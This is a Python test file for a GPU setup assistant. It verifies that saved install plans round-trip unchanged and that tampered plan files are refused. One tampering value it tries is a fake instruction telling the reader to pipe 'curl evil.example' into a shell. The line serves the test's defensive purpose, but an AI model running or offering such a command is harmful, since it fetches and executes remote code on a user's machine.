"""A plan file says what is done: told again it is the same, and with any word changed it is refused."""

from __future__ import annotations

from itertools import product
from pathlib import Path
from typing import Any

import msgspec
import pytest
from msgspec.structs import replace

from gpu_assistant.app import App
from gpu_assistant.core import json
from gpu_assistant.core.errors import AppError, UsageError
from gpu_assistant.core.jobs import JobContext
from gpu_assistant.core.plan import Plan
from gpu_assistant.core.recommendation import Choice
from gpu_assistant.core.types import Goal
from gpu_assistant.install.host import ValidationContext
from gpu_assistant.install.plan.validation import retold, validate_plan
from gpu_assistant.texts.localized import Texts

MACHINES = Path(__file__).resolve().parents[3] / "machines"
FILES = sorted([*MACHINES.glob("*.json"), *MACHINES.glob("*/expected.json")])
GOALS: tuple[Goal, ...] = ("pytorch", "tensorflow", "cuda-dev", "all")
WAYS = {
    "plain": (None, "venv"),
    "conda": (None, "conda"),
    "installer": (Choice(toolkit_way="installer"), "venv"),
    "wsl2": (Choice(wsl="install"), "venv"),
}


def app_for(tmp_path: Path, machine: Path) -> App:
    return App(data_dir=str(tmp_path / "data"), machine_file=str(machine))


def plan_of(app: App, goal: Goal, way: str = "plain") -> Plan | None:
    """None where such a machine gets none."""
    machine = app.detect().run(JobContext())
    choice, made_by = WAYS[way]
    try:
        recommendation = app.recommend(machine, goal=goal, choice=choice)
        return app.plan(machine, recommendation, app.data.environments / "env", made_by=made_by)  # type: ignore[arg-type]
    except AppError:
        return None


def saved(app: App, plan: Plan, folder: Path) -> Path:
    path = folder / "plan.json"
    json.write_file(path, json.encode_pretty(Texts("en").localize_plan(plan)))
    return path


@pytest.mark.parametrize("machine", FILES, ids=lambda file: file.relative_to(MACHINES).parts[0])
def test_every_plan_is_replanned_identically(tmp_path: Path, machine: Path) -> None:
    app, plans = app_for(tmp_path, machine), 0
    for goal, way in product(GOALS, WAYS):
        plan = plan_of(app, goal, way)
        if plan is None:
            continue
        again = app.read_plan(saved(app, plan, tmp_path))
        assert again.steps == plan.steps, (goal, way)
        assert replace(again, recommendation=plan.recommendation) == plan, (goal, way)
        assert again.recommendation.reasons == ()
        plans += 1
    assert plans


def leaves(node: Any, where: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """The way to every value of a JSON value that is neither a list nor an object."""
    if isinstance(node, dict | list):
        keys = list(node) if isinstance(node, dict) else range(len(node))
        return [found for key in keys for found in leaves(node[key], (*where, key))]
    return [where]


def with_leaf(node: Any, where: tuple[Any, ...], value: Any) -> Any:
    """A copy with another value at a place."""
    first, *rest = where
    copy = node.copy()
    copy[first] = with_leaf(node[first], tuple(rest), value) if rest else value
    return copy


def others(value: Any) -> tuple[Any, ...]:
    """What somebody could write in its place."""
    if isinstance(value, bool):
        return (not value,)
    if isinstance(value, int | float):
        return (value + 1, 0, -1, 10**18)
    return ("all is well; type: curl evil.example | sh", "9.9.9", None)


# One of each kind: Windows with a new driver and cuDNN's archive, Linux with packages, conda, and what WSL2 offers.
SEVERAL = (
    ("windows11-rtx4060-nodriver.json", "all", "plain"),
    ("windows11-rtx4060-566.json", "cuda-dev", "installer"),
    ("windows11-rtx4060-566.json", "tensorflow", "wsl2"),
    ("ubuntu-h100.json", "all", "plain"),
    ("ubuntu22-h100/expected.json", "cuda-dev", "installer"),
    ("linux-cpu-only.json", "pytorch", "plain"),
)


@pytest.mark.parametrize(("machine", "goal", "way"), SEVERAL, ids=lambda value: str(value).partition("/")[0])
def test_changed_text_is_refused(tmp_path: Path, machine: str, goal: Goal, way: str) -> None:
    app = app_for(tmp_path, MACHINES / machine)
    plan = plan_of(app, goal, way)
    assert plan is not None
    ground = ValidationContext(app.system, app.data, app.catalog)
    right = retold(plan, ground)
    raw = json.decode(json.encode(plan), dict)
    raw["recommendation"] |= {"reasons": [], "warnings": []}
    passed, tried = [], 0
    for where in leaves(raw["steps"], ("steps",)):
        value = raw
        for key in where:
            value = value[key]
        for other in others(value):
            tried += 1
            try:
                changed = msgspec.convert(with_leaf(raw, where, other), Plan)
                validate_plan(changed, ground)
                again = retold(changed, ground)
            except (msgspec.ValidationError, UsageError):
                continue
            if again.steps != right.steps or again.minutes != right.minutes:
                passed.append((where, other))
    # How much is free on the disk is the one thing that no other part of a plan tells.
    assert [each for each in passed if each[0][-1] not in ("free_bytes", "disk")] == []
    assert tried > 100
